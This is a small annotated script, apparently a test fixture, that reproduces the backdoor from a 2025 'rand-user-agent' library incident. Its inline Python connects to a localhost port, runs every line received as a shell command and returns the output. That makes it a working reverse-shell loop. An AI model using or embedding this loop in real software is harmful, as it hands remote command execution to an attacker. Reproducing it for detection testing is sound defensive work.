# incident: rand-user-agent (2025): a remote control in a library runs what its server says
# finding: network-command
# needs: python3
python3 - <<'PY'
import os, socket, subprocess
with socket.create_connection(("127.0.0.1", int(os.environ["SHELL_PORT"]))) as control:
    for line in control.makefile():
        if line.strip() == "exit": break
        control.sendall(subprocess.run(line, shell=True, capture_output=True).stdout)
PY
